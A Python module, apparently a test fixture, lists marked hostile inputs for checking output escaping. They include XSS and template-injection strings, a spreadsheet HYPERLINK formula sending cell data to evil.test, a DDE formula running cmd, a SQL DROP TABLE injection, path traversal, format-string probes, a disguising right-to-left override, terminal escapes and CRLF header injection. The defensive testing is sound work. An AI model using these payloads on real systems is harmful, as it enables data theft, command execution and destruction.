"""What attackers type: each would act somewhere if it were not only words."""

MARK = "zqx7"
"""In each of them, so that a test can see that it really arrived."""

HOSTILE = {
    "script": f"<script>alert('{MARK}')</script>",
    "handler": f'"><img src=x onerror=alert("{MARK}")>',
    "attribute": f"' autofocus onfocus=alert(1) x='{MARK}",
    "closing": f"</title></textarea></style></script><svg onload=alert(1)>{MARK}",
    "address": f"javascript:alert('{MARK}')//",
    "template": f"{{{{7*7}}}}{{% raw %}}${{7*7}}#{{7*7}}<%= 7*7 %>{MARK}",
    "formula": f'=HYPERLINK("http://evil.test/?x="&A1,"{MARK}")',
    "command": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    "sql": f"'; DROP TABLE requests; --{MARK}",
    "like": f"%_%{MARK}\\",
    "path": f"../../../../etc/{MARK}",
    "windows": f"..\\..\\C:\\{MARK}.txt:stream",
    "format": f"%s%n%x{{0.__class__}}{MARK}",
    "markup": f"[bold red]{MARK}[/bold red][link=http://evil.test]",
    "turned": f"\u202ecod.exe{MARK}\u2066",
    "entity": f"&lt;script&gt;{MARK}&#x3c;",
}
"""Printable: these may be stored, and are shown as they are."""

CONTROL = {
    "null": f"a\x00{MARK}",
    "terminal": f"\x1b]0;{MARK}\x07\x1b[2J\x1b[31m",
    "header": f"a\r\nSet-Cookie: {MARK}=1\r\n\r\n<html>",
    "bell": f"\x07\x08\x7f{MARK}",
    "csi": f"\x9b31m{MARK}",
}
"""Not printable: refused, or shown without what acts."""
